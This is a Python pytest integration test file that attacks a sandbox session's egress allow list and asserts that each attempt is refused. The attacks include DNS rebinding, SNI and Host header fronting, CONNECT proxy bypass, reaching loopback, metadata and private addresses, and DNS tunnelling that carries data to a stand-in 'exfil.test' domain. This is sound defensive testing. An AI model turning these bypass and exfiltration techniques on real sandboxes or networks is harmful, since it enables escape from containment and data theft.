"""Attacks on a session's egress policy, from code inside a real session.

A guarded session (``{"network": {"allow": ["allowed.test", "*.wild.test"]}}``
on a server whose ceiling also holds ``other.test`` and the test subnet) runs
each attack; the test internet's servers and the host's listeners record what
reached them, so a refused attack is seen refused on the far side, not only by
the error the session got. After each attack, an allowed HTTPS request from the
same session must succeed: an attack cannot pass because networking is broken.

Where the old ``network: true`` (slirp4netns: everything but the host) does not
stop an attack, the test also runs it there and asserts that it wins.
"""

from __future__ import annotations

import secrets
from collections.abc import Iterator

import pytest

from benchmarks.internet import ALLOWED, OTHER, WILD, TestInternet
from tests.integration.egress.internet import open_tun, policy_server
from tests.integration.service.server import Server

from .egress_rig import GUARDED, Sandbox
from .harness import ROOT, Account, serve_as


@pytest.fixture(scope="module")
def guarded_server(account: Account, internet: TestInternet) -> Iterator[Server]:
    """The server under attack, as root and as an unprivileged user."""
    args = ("--pool-size", "0", "--max-sessions", "4")
    with policy_server(internet, *args, account=account) as server:
        yield server


@pytest.fixture(scope="module")
def guarded(guarded_server: Server, internet: TestInternet) -> Sandbox:
    return Sandbox(guarded_server, guarded_server.create(network=GUARDED), internet)


@pytest.fixture(scope="module")
def naive(internet: TestInternet) -> Iterator[Sandbox]:
    """A ``network: true`` session: what the attacks win against."""
    args = ("--allow-network", "--pool-size", "0", "--max-sessions", "2")
    with open_tun(), serve_as(ROOT, *args) as server:
        yield Sandbox(server, server.create(network=True), internet)


def _answered(results: dict[str, object]) -> list[str]:
    return [name for name, got in results.items() if "hello from" in str(got)]


def test_ip_literals(guarded: Sandbox, naive: Sandbox, internet: TestInternet) -> None:
    w = internet
    results, window = guarded.run(
        allowed=f"tls_get({w.allowed!r})",
        allowed_curl=f"curl('https://{w.allowed}/', '-k')",
        allowed_http=f"http_get({w.allowed!r})",
        other=f"tls_get({w.other!r})",
        other_curl=f"curl('https://{w.other}/', '-k')",
    )
    assert window.connections(w.allowed) == 0 and window.connections(w.other) == 0, results
    assert not _answered(results), results
    guarded.control()
    results, window = naive.run(other=f"tls_get({w.other!r})")
    assert "hello from other" in results["other"] and window.connections(w.other) == 1, results


@pytest.mark.parametrize("label", ["loop", "veth", "hostaddr", "private", "meta"])
def test_names_resolving_to_forbidden_addresses(
    label: str, guarded: Sandbox, naive: Sandbox, internet: TestInternet
) -> None:
    """loopback, the host's end of the test subnet (inside the ceiling's
    subnet), the host's outward address, a private network outside the
    ceiling, the link-local metadata address."""
    w, port = internet, internet.probe_port
    if label == "hostaddr" and w.outward is None:
        pytest.skip("this host has no outward address")
    name = f"{label}.{WILD}"
    trap = internet.metadata
    if label == "meta" and trap is None:
        pytest.skip("no iptables here to see attempts at the metadata address")
    dials = trap.count() if trap else 0
    results, window = guarded.run(
        resolved=f"resolve({name!r})",
        direct=f"http_get({name!r}, {port})",
        proxied=f"proxy('GET http://{name}:{port}/ HTTP/1.1', '{name}:{port}')",
        tunnel=f"proxy('CONNECT {name}:{port} HTTP/1.1', '{name}:{port}')",
    )
    assert not window.host_reached() and window.connections(w.private) == 0, results
    assert not _answered(results), results
    assert (trap.count() if trap else 0) == dials, results
    ok, _ = guarded.run(ok=f"http_get('ok.{WILD}', {port})")
    assert "hello from wild" in ok["ok"], ok
    guarded.control()
    if label == "private":
        results, window = naive.run(private=f"http_get({w.private!r}, {port})")
        assert "hello from private" in results["private"], results


def test_an_allowed_network_holding_the_host(
    guarded_server: Server, internet: TestInternet
) -> None:
    """A session allowed the whole test subnet reaches its servers by address,
    but not the host's own address in it."""
    w, port = internet, internet.probe_port
    box = Sandbox(guarded_server, guarded_server.create(network={"allow": [w.cidr]}), w)
    try:
        results, window = box.run(
            host=f"tcp({w.net_host!r}, {port})",
            proxied=f"proxy('CONNECT {w.net_host}:{port} HTTP/1.1')",
            other=f"tls_get({w.other!r})",
        )
    finally:
        guarded_server.delete(box.session)
    assert not window.host_reached(), results
    assert "hello from other" in results["other"], results


def test_ipv6(guarded: Sandbox, guarded_server: Server, internet: TestInternet) -> None:
    w, port = internet, internet.probe_port
    results, window = guarded.run(
        loopback=f"tcp('::1', {guarded_server.port})",
        mapped_loopback=f"tcp('::ffff:127.0.0.1', {port})",
        mapped_other=f"tls_get('::ffff:{w.other}')",
        named_v6=f"http_get('v6.{WILD}', {port})",
        named_mapped=f"http_get('v6mapped.{WILD}', {port})",
        named_both=f"http_get('both.{WILD}', {port})",
        proxied_v6=f"proxy('CONNECT [::1]:{port} HTTP/1.1')",
        proxied_mapped=f"proxy('CONNECT [::ffff:127.0.0.1]:{port} HTTP/1.1')",
    )
    assert not window.host_reached() and window.connections(w.other) == 0, results
    assert "pool_ready" not in str(results), results
    guarded.control()


def test_dns_rebinding(guarded: Sandbox, internet: TestInternet) -> None:
    """The name's first answer is the wild server, every later one 127.0.0.1."""
    name, port = f"rebind-{secrets.token_hex(4)}.{WILD}", internet.probe_port
    results, window = guarded.run(
        first=f"resolve({name!r})",
        get=f"http_get({name!r}, {port})",
        second=f"resolve({name!r})",
        again=f"http_get({name!r}, {port})",
        proxied=f"proxy('GET http://{name}:{port}/ HTTP/1.1', '{name}:{port}')",
    )
    assert name in window.dns_names(), (results, window.dns_names())
    assert not window.host_reached(), results
    guarded.control()


def test_sni_differs_from_the_address(
    guarded: Sandbox, naive: Sandbox, internet: TestInternet
) -> None:
    w = internet
    results, window = guarded.run(
        front=f"tls_get({w.other!r}, sni={ALLOWED!r})",
        back=f"tls_get({w.allowed!r}, sni={OTHER!r})",
        wild_front=f"tls_get({w.other!r}, sni='x.{WILD}')",
        named_back=f"tls_get({ALLOWED!r}, sni={OTHER!r})",
    )
    assert window.connections(w.other) == 0, results
    assert not [e for e in window.events("sni") if e["sni"] == OTHER], window.events("sni")
    assert "hello from other" not in str(results), results
    guarded.control()
    results, window = naive.run(front=f"tls_get({w.other!r}, sni={ALLOWED!r})")
    assert "hello from other" in results["front"] and window.connections(w.other) == 1, results


def test_host_header_differs_from_the_address(guarded: Sandbox, internet: TestInternet) -> None:
    w = internet
    results, window = guarded.run(
        by_name=f"http_get({ALLOWED!r}, 80, host={OTHER!r})",
        by_address=f"http_get({w.other!r}, 80, host={ALLOWED!r})",
        proxied=f"proxy('GET http://{OTHER}/ HTTP/1.1', {ALLOWED!r})",
        proxied_front=f"proxy('GET http://{ALLOWED}/ HTTP/1.1', {OTHER!r})",
    )
    assert window.connections(w.other) == 0, results
    assert not [e for e in window.events("request") if e["host"] == OTHER], window.events()
    guarded.control()


def test_connect_through_the_proxy(
    guarded: Sandbox, guarded_server: Server, internet: TestInternet
) -> None:
    w, port = internet, internet.probe_port
    forbidden = {
        "other": f"{OTHER}:443",
        "other_ip": f"{w.other}:443",
        "allowed_ip": f"{w.allowed}:443",
        "api": f"127.0.0.1:{guarded_server.port}",
        "host": f"{w.net_host}:{port}",
    }
    calls = {k: f"proxy('CONNECT {v} HTTP/1.1', {v!r})" for k, v in forbidden.items()}
    results, window = guarded.run(**calls)
    for key in forbidden:
        assert results[key].split("\r\n")[0].split()[1:2] != ["200"], (key, results)
    assert window.connections(w.other) == 0 and not window.host_reached(), results
    assert window.connections(w.allowed) == 0, window.events()
    allowed, _ = guarded.run(ok=f"proxy('CONNECT {ALLOWED}:443 HTTP/1.1', '{ALLOWED}:443')")
    assert allowed["ok"].split("\r\n")[0].split()[1:2] == ["200"], allowed


def test_udp(guarded: Sandbox, naive: Sandbox, internet: TestInternet) -> None:
    w, tag = internet, secrets.token_hex(4)
    results, window = guarded.run(
        allowed=f"udp({w.allowed!r}, 7007, 'guarded-{tag}')",
        by_name=f"udp({ALLOWED!r}, 7007, 'guarded-{tag}')",
        other=f"udp({w.other!r}, 7007, 'guarded-{tag}')",
    )
    assert not window.events("udp"), (results, window.events("udp"))
    guarded.control()
    results, window = naive.run(other=f"udp({w.other!r}, 7007, 'naive-{tag}')")
    assert results["other"] == f"naive-{tag}" and window.events("udp"), results


def test_dns_queries_sent_straight_to_a_resolver(
    guarded: Sandbox, naive: Sandbox, internet: TestInternet
) -> None:
    w, name = internet, f"raw-{secrets.token_hex(4)}.exfil.test"
    results, window = guarded.run(
        udp=f"dns_raw({w.dns_ip!r}, {name!r})", tcp=f"tcp({w.dns_ip!r}, 53)"
    )
    assert name not in window.dns_names() and window.connections(w.dns_ip) == 0, results
    guarded.control()
    results, window = naive.run(udp=f"dns_raw({w.dns_ip!r}, {name!r})")
    assert results["udp"].startswith("answered") and name in window.dns_names(), results


def test_dns_tunnelling(guarded: Sandbox, naive: Sandbox, internet: TestInternet) -> None:
    """Data in the names of queries for a domain outside the policy, asked of
    the session's own resolver, must not reach any DNS server."""
    data = secrets.token_hex(8)
    names = [f"{data}{i}.exfil.test" for i in range(3)]
    results, window = guarded.run(
        a=f"resolve({names[0]!r})",
        aaaa=f"resolve({names[1]!r}, socket.AF_INET6)",
        raw=f"dns_raw(nameserver(), {names[2]!r})",
        allowed=f"resolve({ALLOWED!r})",
    )
    assert not [n for n in window.dns_names() if data in n], window.dns_names()
    assert isinstance(results["allowed"], list) and results["allowed"], results
    guarded.control()
    # A `network: true` session's resolver is the host's, which asks the real
    # internet (out of the tests' reach); the tunnel there is the same query
    # sent to the attacker's server, which it reaches.
    results, window = naive.run(raw=f"dns_raw({internet.dns_ip!r}, {names[2]!r})")
    assert names[2] in window.dns_names(), results


def test_host_services_stay_unreachable(
    guarded: Sandbox, guarded_server: Server, internet: TestInternet
) -> None:
    w, api, port = internet, guarded_server.port, internet.probe_port
    targets = {"api": f"('127.0.0.1', {api})", "slirp_alias": f"('10.0.2.2', {api})"}
    targets |= {"veth": f"({w.net_host!r}, {port})", "loopback": f"('127.0.0.1', {port})"}
    if w.outward:
        targets["outward"] = f"({w.outward!r}, {port})"
    calls = {k: f"tcp(*{v})" for k, v in targets.items()}
    calls["api_proxied"] = f"proxy('GET http://127.0.0.1:{api}/healthz HTTP/1.1')"
    calls["host_proxied"] = f"proxy('GET http://{w.net_host}:{port}/ HTTP/1.1')"
    results, window = guarded.run(**calls)
    assert not window.host_reached(), results
    assert "pool_ready" not in str(results), results
    guarded.control()


def test_other_sessions_stay_unreachable(
    guarded: Sandbox, guarded_server: Server, internet: TestInternet
) -> None:
    neighbour = Sandbox(guarded_server, guarded_server.create(network=GUARDED), internet)
    try:
        listening, _ = neighbour.run(
            port="(LISTENER := socket.create_server(('0.0.0.0', 0))).getsockname()[1]",
            addresses="local_addresses()",
        )
        port = listening["port"]
        calls = {f"a{i}": f"tcp({a!r}, {port})" for i, a in enumerate(listening["addresses"])}
        calls |= {
            f"p{i}": f"proxy('CONNECT {a}:{port} HTTP/1.1')"
            for i, a in enumerate(listening["addresses"])
        }
        calls["loopback"] = f"tcp('127.0.0.1', {port})"
        results, _ = guarded.run(**calls)
        accepted, _ = neighbour.run(
            reached="[LISTENER.setblocking(False), "
            "(lambda: LISTENER.accept() and 'yes')() if __import__('select')"
            ".select([LISTENER], [], [], 0)[0] else 'no'][1]"
        )
        assert accepted["reached"] == "no", (listening, results)
    finally:
        guarded_server.delete(neighbour.session)
    guarded.control()
